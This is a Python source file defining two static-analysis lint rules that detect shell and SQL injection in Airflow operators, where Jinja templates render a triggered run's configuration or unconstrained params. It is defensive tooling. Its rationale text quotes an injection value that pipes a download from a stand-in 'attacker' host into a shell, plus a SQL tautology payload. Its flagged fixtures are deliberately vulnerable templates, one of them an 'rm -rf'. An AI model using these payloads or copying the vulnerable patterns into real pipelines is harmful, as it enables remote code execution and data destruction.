"""Airflow shell commands and SQL statements whose Jinja template renders what a triggered run was given."""

import re

import libcst as cst
from guidelint.cst import Context, Rule, RuleMeta, arg, constant_value, module_constant
from guidelint.cst.helpers import iter_nodes

# the operators that run their templated command in a shell (locally, or on a host over SSH), and the
# argument that holds the command
OPERATORS = {
    "airflow.operators.bash.BashOperator": "bash_command",
    "airflow.operators.bash_operator.BashOperator": "bash_command",
    "airflow.providers.standard.operators.bash.BashOperator": "bash_command",
    "airflow.providers.ssh.operators.ssh.SSHOperator": "command",
    "airflow.contrib.operators.ssh_operator.SSHOperator": "command",
}
# the operators that run their templated `sql` as a statement (its values belong in parameters=)
SQL_OPERATORS = {
    "airflow.providers.common.sql.operators.sql.SQLExecuteQueryOperator": "sql",
    "airflow.providers.postgres.operators.postgres.PostgresOperator": "sql",
    "airflow.providers.mysql.operators.mysql.MySqlOperator": "sql",
    "airflow.providers.snowflake.operators.snowflake.SnowflakeOperator": "sql",
    "airflow.providers.microsoft.mssql.operators.mssql.MsSqlOperator": "sql",
    "airflow.providers.sqlite.operators.sqlite.SqliteOperator": "sql",
    "airflow.operators.postgres_operator.PostgresOperator": "sql",
}
# a Jinja expression `{{ ... }}` or statement `{% ... %}`
JINJA = re.compile(r"\{([{%])(.*?)[}%]\}", re.S)
# the run's configuration: `dag_run.conf['model']`, `dag_run.conf.get("day")`, `dag_run.conf.tables`
CONF = re.compile(r"\bdag_run\s*\.\s*conf\b")
# a DAG parameter: `params.table`, `params['table']`; a triggered run's conf overrides it (Airflow's default,
# `dag_run_conf_overrides_params`) unless the DAG declares it a Param that its schema constrains
PARAM = re.compile(r"\bparams\s*(?:\.\s*(\w+)|\[\s*[\"'](\w+)[\"']\s*\])")
# the last filter of an expression: `{{ dag_run.conf['day'] | shquote }}`
LAST_FILTER = re.compile(r"\|\s*(\w+)\s*$")
SHELL_QUOTES = frozenset({"shlex.quote", "pipes.quote"})


def _constrained_params(ctx: Context) -> frozenset[str]:
    """Names the module declares as a `Param` whose schema leaves no free text: an `enum`, a `pattern`, a
    `const`, or a type other than a string (`"day": Param("2026-01-01", pattern=r"^\\d{4}-...$")`)."""
    key = ("INP159", "params")
    if key not in ctx.memo:
        names: set[str] = set()
        for element in iter_nodes(ctx.module, cst.DictElement):
            name, value = constant_value(element.key), element.value
            if not isinstance(name, str) or type(value) is not cst.Call:
                continue
            if (ctx.qualname(value.func) or "").rsplit(".", 1)[-1] != "Param":
                continue
            kind = arg(value, "type")
            typed = constant_value(kind.value) if kind is not None else None
            if any(arg(value, k) is not None for k in ("enum", "pattern", "const")) or typed in (
                "integer",
                "number",
                "boolean",
            ):
                names.add(name)
        ctx.memo[key] = frozenset(names)
    found: frozenset[str] = ctx.memo[key]
    return found


def _quoting_filters(ctx: Context) -> frozenset[str]:
    """Jinja filters the module's DAGs define as a shell quoting function (`user_defined_filters={"shquote":
    shlex.quote}`)."""
    key = ("INP159", "filters")
    if key not in ctx.memo:
        names: set[str] = set()
        for call in iter_nodes(ctx.module, cst.Call):
            filters = arg(call, "user_defined_filters")
            if filters is None or type(filters.value) is not cst.Dict:
                continue
            for element in filters.value.elements:
                if type(element) is not cst.DictElement:
                    continue
                name = constant_value(element.key)
                if isinstance(name, str) and ctx.qualname(element.value) in SHELL_QUOTES:
                    names.add(name)
        ctx.memo[key] = frozenset(names)
    found: frozenset[str] = ctx.memo[key]
    return found


def triggered_value(text: str, ctx: Context, quoting: frozenset[str]) -> str | None:
    """What of a triggered run a template renders as written (`dag_run.conf`, `params.x`), else None: an
    expression whose last filter is one of `quoting` is rendered quoted."""
    constrained: frozenset[str] | None = None
    for match in JINJA.finditer(text):
        body = match.group(2)
        last = LAST_FILTER.search(body) if match.group(1) == "{" else None
        if last is not None and last.group(1) in quoting:
            continue
        if CONF.search(body):
            return "dag_run.conf"
        for param in PARAM.finditer(body):
            name = param.group(1) or param.group(2)
            if constrained is None:
                constrained = _constrained_params(ctx)
            if name not in constrained:
                return f"params.{name}"
    return None


def _template(call: cst.Call, keyword: str, ctx: Context) -> tuple[cst.Arg, str] | None:
    command = arg(call, keyword)
    if command is None:
        return None
    text = module_constant(ctx, command.value)
    if not isinstance(text, str):
        text = ctx.code(command.value)  # an f-string or a concatenation: its written parts
    return command, text


class AirflowTemplatedCommand(Rule):
    meta = RuleMeta.of(
        id="INP159",
        clause="SG-5.2",
        title="Airflow shell command templated from a DAG run's configuration",
        severity="high",
        confidence="high",
        cwe=[78],
        owasp="A03:2021-Injection",
        message="{operator}'s {keyword} renders {what} into a shell command",
        rationale=(
            "Airflow renders an operator's command as a Jinja template and runs the result in a shell "
            "(BashOperator) or on a remote host (SSHOperator). dag_run.conf is the JSON given when the run "
            "was triggered: by anyone allowed to trigger the DAG through the REST API or the UI's 'trigger "
            "with config', or by another DAG. Jinja does not quote for the shell, so a value such as "
            "`x; curl attacker | sh` runs with the worker's credentials to the warehouse, the buckets and the "
            "secrets backend. A DAG's params are the triggerer's too: the conf of a triggered run overrides them "
            "(Airflow's default), unless the DAG declares them a Param with an enum, a pattern or a non-text type. "
            "Run dates ({{ ds }}), the DAG's own constants and values piped through a filter the DAG defines as "
            "shlex.quote (user_defined_filters) are not reported."
        ),
        remediation=(
            "Read the configuration in Python (a @task or PythonOperator), check it against an allow-list or "
            "a pattern, and run the tool with an argument list (subprocess.run(['dbt', 'run', '--select', "
            'model])); or pass the value through the operator\'s env= and quote it in the script ("$MODEL").'
        ),
        references=(
            "https://airflow.apache.org/docs/apache-airflow/stable/howto/operator/bash.html",
            "https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html",
        ),
    )
    calls = tuple(OPERATORS)
    needles = ("dag_run", "params")

    def check_call(self, call: cst.Call, name: str, ctx: Context) -> None:
        keyword = OPERATORS[name]
        found = _template(call, keyword, ctx)
        what = found and triggered_value(found[1], ctx, _quoting_filters(ctx))
        if found and what:
            operator = name.rsplit(".", 1)[-1]
            ctx.report(found[0], self.meta.message.format(operator=operator, keyword=keyword, what=what))

    flagged = """
        from airflow.operators.bash import BashOperator
        from airflow.providers.ssh.operators.ssh import SSHOperator

        BACKFILL = "dbt run --select {{ dag_run.conf.get('model', 'orders') }} --target prod"

        def tasks():
            rebuild = BashOperator(
                task_id="rebuild",
                bash_command="dbt run --select {{ dag_run.conf['model'] }} --target prod",  # expect
            )
            backfill = BashOperator(task_id="backfill", bash_command=BACKFILL)  # expect
            sync = BashOperator(task_id="sync", bash_command="aws s3 sync {{ params.source }} /data/in/")  # expect
            purge = SSHOperator(
                task_id="purge",
                ssh_conn_id="etl_host",
                command="rm -rf /data/{% for t in dag_run.conf.tables %}{{ t }} {% endfor %}",  # expect
            )
            return rebuild, backfill, sync, purge
    """
    safe = """
        import shlex

        from airflow import DAG
        from airflow.models.param import Param
        from airflow.operators.bash import BashOperator
        from airflow.providers.ssh.operators.ssh import SSHOperator

        DAG("purge", params={"days": Param(30, type="integer")}, user_defined_filters={"shquote": shlex.quote})

        def tasks():
            build = BashOperator(
                task_id="dbt_build",
                bash_command="dbt build --target prod --vars '{\\"run_date\\": \\"{{ ds }}\\"}'",
            )
            model = BashOperator(
                task_id="model",
                bash_command='dbt run --select "$MODEL"',
                env={"MODEL": "{{ ti.xcom_pull(task_ids='pick_model') }}"},
            )
            purge = SSHOperator(
                task_id="purge", ssh_conn_id="etl_host", command="find /data -mtime +{{ params.days }} -delete"
            )
            drop = BashOperator(task_id="drop", bash_command="hdfs dfs -rm -r /w/{{ dag_run.conf['day'] | shquote }}")
            return build, model, purge, drop
    """


class AirflowTemplatedSql(Rule):
    meta = RuleMeta.of(
        id="INP160",
        clause="SG-5.1",
        title="Airflow SQL templated from a DAG run's configuration",
        severity="high",
        confidence="high",
        cwe=[89],
        owasp="A03:2021-Injection",
        message="{operator}'s sql renders {what} into the statement; pass it in parameters=",
        rationale=(
            "Airflow renders an SQL operator's statement as a Jinja template before the database runs it. "
            "dag_run.conf, and the params a triggered run's conf overrides, are written by whoever may trigger "
            "the DAG (the REST API, the UI's 'trigger with config', another DAG); Jinja does not quote for SQL, "
            "so a value such as `x' OR '1'='1` rewrites the statement with the connection's rights."
        ),
        remediation=(
            "Write a placeholder in the statement and give the value in the operator's parameters= "
            '(sql="... WHERE batch_id = %(batch)s", parameters={"batch": "{{ dag_run.conf[\'batch\'] }}"}), '
            "or declare the param with an enum or a pattern."
        ),
        references=(
            "https://airflow.apache.org/docs/apache-airflow-providers-common-sql/stable/operators.html",
            "https://airflow.apache.org/docs/apache-airflow/stable/security/security_model.html",
        ),
    )
    calls = tuple(SQL_OPERATORS)
    needles = ("dag_run", "params")

    def check_call(self, call: cst.Call, name: str, ctx: Context) -> None:
        found = _template(call, SQL_OPERATORS[name], ctx)
        what = found and triggered_value(found[1], ctx, frozenset())
        if found and what:
            ctx.report(found[0], self.meta.message.format(operator=name.rsplit(".", 1)[-1], what=what))

    flagged = """
        from airflow.providers.common.sql.operators.sql import SQLExecuteQueryOperator

        def tasks():
            reset = SQLExecuteQueryOperator(
                task_id="reset",
                conn_id="warehouse",
                sql="UPDATE batches SET state = 'queued' WHERE id = '{{ dag_run.conf['batch'] }}'",  # expect
            )
            report = SQLExecuteQueryOperator(
                task_id="report",
                conn_id="warehouse",
                sql="SELECT * FROM orders WHERE region = '{{ params.region }}'",  # expect
            )
            return reset, report
    """
    safe = """
        from airflow.models.param import Param
        from airflow.providers.common.sql.operators.sql import SQLExecuteQueryOperator

        PARAMS = {"region": Param("emea", enum=["emea", "amer", "apac"])}

        def tasks():
            reset = SQLExecuteQueryOperator(
                task_id="reset",
                conn_id="warehouse",
                sql="UPDATE batches SET state = 'queued' WHERE id = %(batch)s",
                parameters={"batch": "{{ dag_run.conf['batch'] }}"},
            )
            report = SQLExecuteQueryOperator(
                task_id="report", conn_id="warehouse", sql="SELECT * FROM orders WHERE region = '{{ params.region }}'"
            )
            daily = SQLExecuteQueryOperator(
                task_id="daily", conn_id="warehouse", sql="DELETE FROM staging WHERE day = '{{ ds }}'"
            )
            return reset, report, daily
    """
